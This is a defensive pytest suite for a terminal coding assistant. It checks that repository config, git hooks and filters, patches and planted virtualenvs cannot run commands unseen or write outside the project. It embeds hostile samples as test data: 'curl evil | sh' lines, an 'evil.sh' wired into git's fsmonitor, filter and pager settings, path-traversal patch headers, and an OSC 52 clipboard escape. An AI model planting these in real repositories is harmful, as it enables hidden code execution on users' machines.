"""The coding loop you can trust: nothing from a repository or a model runs
unseen, files keep their bytes, undo is per project and never poisoned,
`/run` always stops. Each test is a hole an audit found (issue 17).

No engine: replies are put on screen as they would have streamed.
"""

from __future__ import annotations

import asyncio
import dataclasses
import os
import signal
import subprocess
import sys
import time

import pytest
from prompt_toolkit.input import create_pipe_input
from prompt_toolkit.output import DummyOutput

from termchat.coding import apply, project, project_tests
from termchat.slash import dispatch
from termchat.engine.command import owned, server_command
from termchat.errors import UserError
from termchat.profiles import Config, builtin_profiles, parse_config
from termchat.repl import Repl
from termchat.sanitize import clean_code, inert
from termchat.engine import proc
from termchat.coding.shell import LINE_CHARS, CommandRun
from termchat.ui.app import TermchatApp
from termchat.ui.screens.apply_diff import ApplyDiff
from termchat.ui.screens.confirm import Confirm

from .conftest import wait_for
from .test_tui_coding import command, notes, reply_on_screen

# ---- 1. no command runs that the user has not seen ---------------------------------------------


def test_a_termchat_toml_in_a_parent_folder_is_not_the_projects(tmp_path):
    # was: /tmp/.termchat.toml, planted by another user, ran as the person typing /test in /tmp/x
    (tmp_path / ".termchat.toml").write_text('test_command = "touch planted"\n')
    (tmp_path / "x").mkdir()
    with pytest.raises(UserError, match="no test command found"):
        project_tests.resolve_test_command("", None, tmp_path / "x")
    # the git root's own file is the project's, and comes with its path (for the approval)
    (tmp_path / ".git").mkdir()
    assert project_tests.resolve_test_command("", None, tmp_path / "x") == ("touch planted", tmp_path.resolve() / ".termchat.toml")


def projects_test_command(tmp_path, text: str):
    (tmp_path / ".git").mkdir(exist_ok=True)
    (tmp_path / ".termchat.toml").write_text(f'test_command = "{text}"\n')
    return tmp_path / ".termchat.toml"


async def test_the_tui_runs_a_projects_test_command_only_once_approved_and_again_after_a_change(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    projects_test_command(tmp_path, "echo one >> ran.txt")
    app = TermchatApp(start_engine=False, resume=False)
    async with app.run_test(size=(120, 40), notifications=True) as pilot:
        await command(pilot, "/test")
        await wait_for(pilot, lambda: isinstance(app.screen, Confirm), timeout=10, what="the question")
        assert "echo one >> ran.txt" in app.screen.question and ".termchat.toml" in app.screen.question
        await pilot.press("enter")  # the default is no
        await wait_for(pilot, lambda: "nothing run" in notes(app), timeout=10, what="the refusal")
        assert not (tmp_path / "ran.txt").exists()
        await command(pilot, "/test")
        await wait_for(pilot, lambda: isinstance(app.screen, Confirm), timeout=10, what="the question again")
        await pilot.press("y")
        await wait_for(pilot, lambda: (tmp_path / "ran.txt").exists() and app.chat_screen.running is None, timeout=20, what="the run")
        await command(pilot, "/test")  # approved: runs without asking
        await wait_for(pilot, lambda: (tmp_path / "ran.txt").read_text().count("one") == 2 and app.chat_screen.running is None, timeout=20, what="the second run")
        assert not isinstance(app.screen, Confirm)
        projects_test_command(tmp_path, "echo two >> ran.txt")  # the file changed: asked again
        await command(pilot, "/test")
        await wait_for(pilot, lambda: isinstance(app.screen, Confirm), timeout=10, what="the question after the change")
        await pilot.press("n")
        await pilot.pause(0.3)
        assert "two" not in (tmp_path / "ran.txt").read_text()
    assert (project.paths.state_dir() / "approved-commands.json").stat().st_mode & 0o777 == 0o600


async def test_the_repl_prints_the_command_and_asks_before_running_a_projects(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    projects_test_command(tmp_path, "echo ran >> ran.txt")
    said: list[str] = []
    with create_pipe_input() as pipe:
        repl = Repl(Config(builtin_profiles()), input=pipe, output=DummyOutput(), history_file=tmp_path / "h", write=said.append, store=None, color=False)
        pipe.send_text("n\r")
        await dispatch(repl, "/test")
        assert not (tmp_path / "ran.txt").exists() and "asks to run its test command" in "".join(said)
        pipe.send_text("y\r")
        await dispatch(repl, "/test")
        assert (tmp_path / "ran.txt").read_text() == "ran\n"
        said.clear()
        await dispatch(repl, "/run echo shown")
        assert "$ echo shown" in "".join(said)  # what runs is on screen before it runs


def test_the_fix_loop_cannot_write_a_file_termchat_reads(tmp_path):
    with pytest.raises(UserError, match="termchat itself reads"):
        apply.plan('test_command = "curl evil | sh"\n', "toml", ".termchat.toml", tmp_path, confined=True)
    patch = "--- a/.termchat.toml\n+++ b/.termchat.toml\n@@ -0,0 +1 @@\n+test_command = \"x\"\n"
    with pytest.raises(UserError, match="termchat itself reads"):  # a patch's header, even in a user's /apply
        apply.plan(patch, "diff", None, tmp_path)


def test_git_status_before_the_answer_runs_nothing_of_the_repository(tmp_path):
    # was: the repository's core.fsmonitor command ran when /apply showed the diff
    marker = tmp_path / "fsmonitor-ran"
    hook = tmp_path / "monitor.sh"
    hook.write_text(f"#!/bin/sh\ntouch {marker}\n")
    hook.chmod(0o755)
    subprocess.run(["git", "init", "-q", str(tmp_path)], check=True)
    subprocess.run(["git", "-C", str(tmp_path), "config", "core.fsmonitor", str(hook)], check=True)
    (tmp_path / "a.py").write_text("x = 1\n")
    subprocess.run(["git", "status", "--porcelain"], cwd=tmp_path, capture_output=True)
    assert marker.exists()  # the repository's command runs under a plain `git status`
    marker.unlink()
    assert apply.git_status(tmp_path / "a.py") == "git: not tracked"
    assert not marker.exists()



def test_git_status_before_the_answer_runs_no_filter_textconv_diff_pager_or_hook(tmp_path):
    """A .git/config that names a program in every place git would run one."""
    marker = tmp_path / "ran"
    evil = tmp_path / "evil.sh"
    evil.write_text(f"#!/bin/sh\necho \"$0 $@\" >> {marker}\ncat\n")
    evil.chmod(0o755)
    repo = tmp_path / "repo"
    subprocess.run(["git", "init", "-q", str(repo)], check=True)
    git = ["git", "-C", str(repo), "-c", "user.name=t", "-c", "user.email=t@t"]
    for name in ("a.py", "b.py", "c.py"):
        (repo / name).write_text("x = 1\n")
    subprocess.run([*git, "add", "a.py", "b.py"], check=True)
    subprocess.run([*git, "commit", "-qm", "one"], check=True)
    (repo / "b.py").write_text("x = 2\n")
    (repo / ".gitattributes").write_text("* filter=x diff=x\n")
    with open(repo / ".git" / "config", "a") as config:
        config.write(f'[filter "x"]\n\tclean = {evil}\n\tsmudge = {evil}\n\tprocess = {evil}\n[diff "x"]\n\ttextconv = {evil}\n\tcommand = {evil}\n'
                     f"[diff]\n\texternal = {evil}\n[core]\n\tfsmonitor = {evil}\n\tpager = {evil}\n\thooksPath = {tmp_path}\n[pager]\n\tstatus = {evil}\n")
    subprocess.run(["git", "status", "--porcelain"], cwd=repo, capture_output=True)
    assert marker.exists()  # a plain `git status` runs the repository's programs
    marker.unlink()
    assert apply.git_status(repo / "a.py") == "git: unchanged since the last commit"
    assert apply.git_status(repo / "b.py") == "git: modified, not staged"
    assert apply.git_status(repo / "c.py") == "git: not tracked"
    assert apply.git_status(tmp_path / "evil.sh") == ""  # outside a work tree
    assert not marker.exists()


def planted_parent(tmp_path):
    """Someone else's folder (or a shared /tmp): .git, tests/ and a .venv whose python is theirs."""
    parent = tmp_path / "shared"
    (parent / ".git").mkdir(parents=True)
    (parent / "tests").mkdir()
    venv = parent / ".venv" / "bin"
    venv.mkdir(parents=True)
    (venv / "python").write_text("#!/bin/sh\ntouch planted-ran\n")
    (venv / "python").chmod(0o755)
    (parent / "mine").mkdir()
    return parent


def test_a_parents_venv_python_is_asked_about_before_it_runs(tmp_path):
    parent = planted_parent(tmp_path)
    command_line, source = project_tests.resolve_test_command("", None, parent / "mine")
    assert source == parent.resolve() / ".venv" / "bin" / "python" and not project.approved(source, command_line)
    assert "project's own Python" in project.approval_question(source, command_line)
    project.approve(source, command_line)
    assert project.approved(source, command_line)
    source.write_text("#!/bin/sh\ntouch other\n")  # the same path, other bytes: asked again
    assert not project.approved(source, command_line)


def test_a_project_root_another_user_owns_is_refused(tmp_path):
    parent = planted_parent(tmp_path)
    os.chown(parent, 65534, 65534)  # nobody's
    try:
        with pytest.raises(UserError, match="belongs to another user"):
            project_tests.resolve_test_command("", None, parent / "mine")
        (parent / ".termchat.toml").write_text('test_command = "touch x"\n')
        with pytest.raises(UserError, match="belongs to another user"):
            project.test_command(parent / "mine")
        assert project_tests.resolve_test_command("echo mine", None, parent / "mine") == ("echo mine", None)  # typed by the user
    finally:
        os.chown(parent, os.getuid(), os.getgid())


async def test_the_repl_asks_before_running_a_parents_venv_python(tmp_path, monkeypatch):
    parent = planted_parent(tmp_path)
    monkeypatch.chdir(parent / "mine")
    said: list[str] = []
    with create_pipe_input() as pipe:
        repl = Repl(Config(builtin_profiles()), input=pipe, output=DummyOutput(), history_file=tmp_path / "h", write=said.append, store=None, color=False)
        pipe.send_text("n\r")
        await dispatch(repl, "/test")
    assert "project's own Python" in "".join(said) and "nothing run" in "".join(said)
    assert not list(tmp_path.rglob("planted-ran"))


ESCAPES = {
    "host=0.0.0.0": True,  # becomes --host=0.0.0.0
    "hos": "0.0.0.0",  # argparse's abbreviation of --host
    "port=8000": True,
    "api-ke": "x",
    "uds=/tmp/s": True,
}


@pytest.mark.parametrize("key", ESCAPES)
def test_engine_args_cannot_change_where_the_engine_listens(key):
    value = ESCAPES[key]
    text = f'[profiles.x]\nmodel = "m"\nengine_args = {{ "{key}" = {value!r} }}\n'.replace("True", "true").replace("'", '"')
    _, problems = parse_config(text, "c.toml")
    assert any("termchat sets this flag itself" in str(p) and "c.toml" in str(p) for p in problems), problems


def test_vllms_own_parser_refuses_every_form_on_the_final_arguments():
    """The engine's check (guarded_server), for forms the key-name check would miss."""
    from termchat.engine.guarded_server import parser, violations

    parse = parser()
    base = dataclasses.replace(builtin_profiles()["local-plain"], engine_args={"enforce_eager": True})
    argv = server_command(base, 4567, resolve_model=False)[3:]
    assert violations(argv, owned(base, 4567, base.model), parse) == []
    for key, value in ESCAPES.items():
        profile = dataclasses.replace(base, engine_args={key: value})
        argv = server_command(profile, 4567, resolve_model=False)[3:]
        assert violations(argv, owned(profile, 4567, profile.model), parse), key


# ---- 2. files keep their bytes --------------------------------------------------------------------


@pytest.mark.parametrize("newline", ["\r\n", "\r"])
def test_crlf_and_cr_files_keep_their_line_endings_through_apply_and_undo(tmp_path, newline):
    original = newline.join(["def add(a, b):", "    return a - b", "", "x = 1", ""]).encode()
    target = tmp_path / "calc.py"
    target.write_bytes(original)
    undo = apply.UndoStack(tmp_path / "undo")
    # a whole block from a reply (LF) takes the file's line endings
    apply.write(apply.plan("def add(a, b):\n    return a + b\n", "python", "calc.py", tmp_path), undo)
    assert target.read_bytes() == newline.join(["def add(a, b):", "    return a + b", ""]).encode()
    undo.undo()
    assert target.read_bytes() == original
    # a patch keeps every line it does not touch byte for byte, and adds lines with the file's ending
    patch = "--- a/calc.py\n+++ b/calc.py\n@@ -1,4 +1,5 @@\n def add(a, b):\n-    return a - b\n+    return a + b\n+\n \n x = 1\n"
    apply.write(apply.plan(patch, "diff", None, tmp_path), undo)
    assert target.read_bytes() == newline.join(["def add(a, b):", "    return a + b", "", "", "x = 1", ""]).encode()
    undo.undo()
    assert target.read_bytes() == original


def test_no_newline_at_end_of_file_is_honoured(tmp_path):
    target = tmp_path / "a.txt"
    target.write_bytes(b"one\ntwo")
    # git's diff for adding a line after a last line without a newline
    patch = "--- a/a.txt\n+++ b/a.txt\n@@ -1,2 +1,3 @@\n one\n-two\n\\ No newline at end of file\n+two\n+three\n\\ No newline at end of file\n"
    apply.write(apply.plan(patch, "diff", None, tmp_path), apply.UndoStack(tmp_path / "undo"))
    assert target.read_bytes() == b"one\ntwo\nthree"
    # and for giving the file its last newline
    patch = "--- a/a.txt\n+++ b/a.txt\n@@ -2,2 +2,2 @@\n two\n-three\n\\ No newline at end of file\n+three\n"
    apply.write(apply.plan(patch, "diff", None, tmp_path), apply.UndoStack(tmp_path / "undo"))
    assert target.read_bytes() == b"one\ntwo\nthree\n"


async def test_code_from_the_tui_keeps_invisible_characters_and_names_them(tmp_path, monkeypatch):
    # was: the TUI wrote the screen's marks: a ZWJ emoji became 👨<U+200D>👩 in the file
    monkeypatch.chdir(tmp_path)
    family = "👨\u200d👩"
    app = TermchatApp(start_engine=False, resume=False)
    async with app.run_test(size=(120, 40), notifications=True) as pilot:
        await reply_on_screen(app, f"```python\nfamily = '{family}'\n```\n")
        await command(pilot, "/apply out.py")
        await wait_for(pilot, lambda: isinstance(app.screen, ApplyDiff), timeout=10, what="diff")
        assert "<U+200D>" in notes(app)  # named before anything is written
        await pilot.press("y")
        await wait_for(pilot, lambda: (tmp_path / "out.py").exists(), timeout=10, what="written")
    assert (tmp_path / "out.py").read_text(encoding="utf-8") == f"family = '{family}'\n"


def test_a_patch_header_outside_the_folder_is_refused_and_one_file_twice_applies_in_order(tmp_path):
    (tmp_path / "in").mkdir()
    (tmp_path / "outside.py").write_text("x = 1\n")
    escape = "--- a/../outside.py\n+++ b/../outside.py\n@@ -1 +1 @@\n-x = 1\n+x = 2\n"
    with pytest.raises(UserError, match="outside"):
        apply.plan(escape, "diff", None, tmp_path / "in")
    (tmp_path / "in" / "a.py").write_text("a = 1\nb = 2\nc = 3\n")
    twice = "--- a/a.py\n+++ b/a.py\n@@ -1 +1 @@\n-a = 1\n+a = 10\n--- a/a.py\n+++ b/a.py\n@@ -3 +3 @@\n-c = 3\n+c = 30\n"
    changes = apply.plan(twice, "diff", None, tmp_path / "in")
    assert len(changes) == 1 and changes[0].new == "a = 10\nb = 2\nc = 30\n"  # what the diff shows is what is written


def test_a_file_changed_after_the_diff_is_not_overwritten(tmp_path):
    target = tmp_path / "a.py"
    target.write_text("a = 1\n")
    changes = apply.plan("a = 2\n", "python", "a.py", tmp_path)
    target.write_text("a = 1  # edited meanwhile\n")
    with pytest.raises(UserError, match="changed since the diff"):
        apply.write(changes, apply.UndoStack(tmp_path / "undo"))
    assert target.read_text() == "a = 1  # edited meanwhile\n"


async def test_tilde_works_in_cd_and_apply(tmp_path, monkeypatch):
    monkeypatch.setenv("HOME", str(tmp_path))
    (tmp_path / "work").mkdir()
    monkeypatch.chdir("/")
    said: list[str] = []
    with create_pipe_input() as pipe:
        repl = Repl(Config(builtin_profiles()), input=pipe, output=DummyOutput(), history_file=tmp_path / "h", write=said.append, store=None, color=False)
        await dispatch(repl, "/cd ~/work")
        assert os.getcwd() == str(tmp_path / "work")
    changes = apply.plan("x = 1\n", "python", "~/made.py", tmp_path / "work")
    assert changes[0].path == tmp_path / "made.py"


# ---- 3. undo that holds ------------------------------------------------------------------------


def test_undo_is_per_project(tmp_path, monkeypatch):
    # was: /undo in project B restored a file of project A
    a, b = tmp_path / "a", tmp_path / "b"
    for folder in (a, b):
        (folder / ".git").mkdir(parents=True)
        (folder / "f.py").write_text(f"{folder.name} = 0\n")
    undo = apply.UndoStack()
    monkeypatch.chdir(a)
    apply.write(apply.plan("a = 1\n", "python", "f.py", a), undo)
    monkeypatch.chdir(b)
    apply.write(apply.plan("b = 1\n", "python", "f.py", b), undo)
    monkeypatch.chdir(a / ".git")  # anywhere in the project
    undo.undo()
    assert (a / "f.py").read_text() == "a = 0\n" and (b / "f.py").read_text() == "b = 1\n"
    with pytest.raises(UserError, match="nothing to undo"):
        undo.undo()
    monkeypatch.chdir(b)
    undo.undo()
    assert (b / "f.py").read_text() == "b = 0\n"


def test_a_failed_write_leaves_nothing_written_and_nothing_on_the_undo_stack(tmp_path, monkeypatch):
    # was: one failed write made every later /undo refuse with "changed after /apply"
    undo = apply.UndoStack(tmp_path / "undo")
    (tmp_path / "a.py").write_text("a = 0\n")
    (tmp_path / "b.py").write_text("b = 0\n")
    apply.write(apply.plan("a = 1\n", "python", "a.py", tmp_path), undo)
    real = apply.write_atomically

    def failing(path, text, mode=0o600):
        if path.name == "b.py" and text == "b = 2\n":
            raise OSError(28, "No space left on device")
        return real(path, text, mode)

    monkeypatch.setattr(apply, "write_atomically", failing)
    patch = "--- a/a.py\n+++ b/a.py\n@@ -1 +1 @@\n-a = 1\n+a = 2\n--- a/b.py\n+++ b/b.py\n@@ -1 +1 @@\n-b = 0\n+b = 2\n"
    with pytest.raises(UserError, match="nothing was changed"):
        apply.write(apply.plan(patch, "diff", None, tmp_path), undo)
    assert (tmp_path / "a.py").read_text() == "a = 1\n"  # the first file of the failed apply went back
    undo.undo()  # the apply before it undoes as if nothing had happened
    assert (tmp_path / "a.py").read_text() == "a = 0\n"


# ---- 4. /run that always stops --------------------------------------------------------------------


def kill_listed(run: CommandRun) -> None:
    for item in run.left_running:
        os.kill(int(item.split()[1]), signal.SIGKILL)


async def test_a_command_that_left_its_group_holding_the_output_does_not_hold_run():
    run = CommandRun(f"echo started; setsid {sys.executable} -c 'import time; time.sleep(600)' &")
    started = time.monotonic()
    output = "".join([text async for text in run.chunks()])
    try:
        assert output == "started\n" and time.monotonic() - started < 10  # not the 600 s it held the pipe
        assert run.exit_code == 0 and len(run.left_running) == 1 and "outside its process group" in run.outcome()
    finally:
        kill_listed(run)


async def test_escape_stops_run_at_once_even_with_a_setsid_descendant(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    app = TermchatApp(start_engine=False, resume=False)
    async with app.run_test(size=(120, 40)) as pilot:
        screen = app.chat_screen
        await command(pilot, "/run setsid sleep 600 & echo waiting; sleep 600")
        await wait_for(pilot, lambda: screen.running is not None and "waiting" in screen.running.output, timeout=10, what="running")
        run = screen.running
        started = time.monotonic()
        await pilot.press("escape")
        await wait_for(pilot, lambda: screen.running is None, timeout=10, what="stopped")
        try:
            assert time.monotonic() - started < 5 and run.ended_by == "stopped"
            assert [item.split()[2] for item in run.left_running] == ["(sleep)"]  # reported, not waited for
        finally:
            kill_listed(run)


async def test_the_tui_stops_the_processes_a_command_left_running_on_the_users_word(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    app = TermchatApp(start_engine=False, resume=False)
    async with app.run_test(size=(120, 40), notifications=True) as pilot:
        screen = app.chat_screen
        await command(pilot, "/run setsid sleep 600 & echo started")
        await wait_for(pilot, lambda: isinstance(app.screen, Confirm), timeout=15, what="the question")
        run = screen.last_run
        pid = run.escaped[0][0]
        assert "left 1 process(es) running" in app.screen.question and "(sleep)" in app.screen.question
        await pilot.press("y")
        await wait_for(pilot, lambda: "stopped 1 process(es)" in notes(app) or not os.path.exists(f"/proc/{pid}"), timeout=15, what="the stop")
        await pilot.pause(0.3)
        assert not os.path.exists(f"/proc/{pid}") or open(f"/proc/{pid}/stat").read().split(") ")[1][0] == "Z"


async def test_the_repl_asks_before_stopping_what_a_command_left_running(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    said: list[str] = []
    with create_pipe_input() as pipe:
        repl = Repl(Config(builtin_profiles()), input=pipe, output=DummyOutput(), history_file=tmp_path / "h", write=said.append, store=None, color=False)
        pipe.send_text("n\r")
        await dispatch(repl, "/run setsid sleep 600 & echo one")
        kept = repl.last_run
        assert "they keep running" in "".join(said) and all(proc.is_running(pid, start) for pid, start in kept.escaped)
        pipe.send_text("y\r")
        await dispatch(repl, "/run setsid sleep 600 & echo two")
        assert "stopped 1 process(es)" in "".join(said)
        kill_listed(kept)


async def test_a_line_without_newlines_is_folded():
    run = CommandRun("head -c 100000 /dev/zero | tr '\\0' x")
    output = "".join([text async for text in run.chunks()])
    assert output.replace("\n", "") == "x" * 100000 and max(map(len, output.split("\n"))) == LINE_CHARS


# ---- 5, 6. /test on the common layout, and a fix request that names the real files ------------------


ROOT_MODULE = "def is_prime(n):\n    return n > 1 and all(n % d for d in range(2, n))\n"
ROOT_TEST = "from prime import is_prime\n\n\ndef test_seven():\n    assert is_prime(7)\n"


async def test_tests_of_a_module_at_the_root_import_it(tmp_path):
    # was: bare `pytest` gave ModuleNotFoundError: No module named 'prime'
    (tmp_path / "prime.py").write_text(ROOT_MODULE)
    (tmp_path / "tests").mkdir()
    (tmp_path / "tests" / "test_prime.py").write_text(ROOT_TEST)
    venv = tmp_path / ".venv" / "bin"
    venv.mkdir(parents=True)
    (venv / "python").symlink_to(sys.executable)  # the project's own interpreter, preferred
    command_line, source = project_tests.resolve_test_command("", None, tmp_path)
    assert command_line.startswith(f"{venv / 'python'} -m pytest") and source == venv / "python"  # to approve first
    run = CommandRun(command_line, cwd=tmp_path)
    output = "".join([text async for text in run.chunks()])
    assert run.exit_code == 0, output


def test_the_fix_request_names_the_module_the_failing_test_imports(tmp_path):
    # seen in tmux: a failure inside the test names only tests/test_prime.py
    (tmp_path / "prime.py").write_text(ROOT_MODULE)
    (tmp_path / "tests").mkdir()
    (tmp_path / "tests" / "test_prime.py").write_text(ROOT_TEST)
    summary = "- FAILED tests/test_prime.py::test_seven\n    assert False\n    at tests/test_prime.py:5"
    assert project_tests.fix_files([], summary, tmp_path) == ["prime.py"]


def test_the_fix_request_names_the_files_at_hand():
    # was: the default model copied `# calc.py` from the request's example
    summary = "- FAILED tests/test_prime.py::test_seven\n    assert False\n    at tests/test_prime.py:5\n    at prime.py:2"
    files = project_tests.fix_files([], summary, project.Path("/p"))
    assert files == ["prime.py"]
    request = project_tests.fix_request("pytest", summary, files)
    assert "`# prime.py`" in request and "calc.py" not in request
    assert project_tests.fix_files([project.Path("/p/src/app.js")], summary, project.Path("/p")) == ["src/app.js"]
    assert "`// src/app.js`" in project_tests.fix_request("npm test", summary, ["src/app.js"])


# ---- 7. config text is inert everywhere ----------------------------------------------------------


def test_config_strings_reach_the_terminal_inert(tmp_path, capsys):
    from termchat.cli import main

    hostile = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[2J"
    config = tmp_path / "config.toml"
    toml = hostile.replace("\x1b", "\\u001b").replace("\x07", "\\u0007")
    config.write_text(f'[profiles.x]\ndescription = "{toml}"\nmodel = "m\\u001b[31m"\nengine_args = {{ "x\\u001b[2J" = 1 }}\n')
    broken = tmp_path / "broken.toml"
    broken.write_text('[profiles.y]\nmodel = "m"\nmax_tokens = "many\\u001b[2J"\n')
    for file, argv in ((config, ["profiles", "list"]), (config, ["serve", "--dry-run", "--profile", "x"]), (broken, ["profiles", "check"])):
        main(["--config", str(file), *argv])
        out = capsys.readouterr()
        assert (out.err if file is broken else out.out).strip(), argv  # it printed, inert
        assert "\x1b" not in out.out + out.err and "\x07" not in out.out + out.err, argv


def test_the_sanitizer_names_tag_characters_and_invisible_operators():
    smuggled = "ok\U000E0069\U000E0067\u2062x\u206a\ufff9"
    shown = inert(smuggled)
    assert shown == "ok<U+E0069><U+E0067><U+2062>x<U+206A><U+FFF9>"
    code, warning = clean_code(smuggled + "\n")
    assert code == smuggled + "\n" and "invisible operators or tag characters" in warning and "<U+E0069>" in warning


def test_clean_code_keeps_line_endings():
    assert clean_code("a = 1\r\nb = 2\r\n") == ("a = 1\r\nb = 2\r\n", "")


assert asyncio  # the TUI tests above are coroutines (pytest-asyncio)
